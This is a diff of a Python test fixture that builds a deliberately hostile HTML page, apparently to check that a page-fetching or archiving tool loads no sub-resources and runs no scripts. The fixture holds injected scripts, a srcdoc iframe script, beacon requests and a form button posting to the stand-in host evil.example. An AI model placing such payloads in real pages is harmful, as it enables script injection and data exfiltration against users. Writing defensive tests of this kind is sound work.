@@ -23,7 +23,8 @@ def hostile_page(beacon: str, paragraph: bool = True) -> str:
     """A hostile page whose sub-resources point at *beacon* (a loopback origin that must
     receive nothing) and at evil.example.  *paragraph* keeps the paragraph that a later
     version removes."""
-    gone = "<p id=\"gone\">要删除的段落：这一段将在下次抓取时被删除，以便测试比较视图。</p>" if paragraph else ""
+    gone = ("<p id=\"gone\">要删除的段落：这一段将在下次抓取时被删除，以便测试比较视图。</p>"
+            if paragraph else "")
     return f"""<!DOCTYPE html>
 <html><head><meta charset="utf-8">
 <title>恶意页面<script>document.title='pwned'</script></title>
@@ -57,7 +58,8 @@ fetch('{beacon}/beacon/fetch');</script>
 <a href="{beacon}/beacon/link" ping="{beacon}/beacon/ping">beacon link</a>
 <a href="relative/page.html">relative link</a>
 <form action="{beacon}/beacon/form" method="post"><input name="q" value="1">
-<input type="image" src="{beacon}/beacon/input.png"><button formaction="{EVIL}/f">send</button></form>
+<input type="image" src="{beacon}/beacon/input.png">
+<button formaction="{EVIL}/f">send</button></form>
 <iframe src="{beacon}/beacon/iframe"></iframe>
 <iframe srcdoc="&lt;script&gt;parent.__pwned=9&lt;/script&gt;"></iframe>
 <object data="{beacon}/beacon/object"></object>
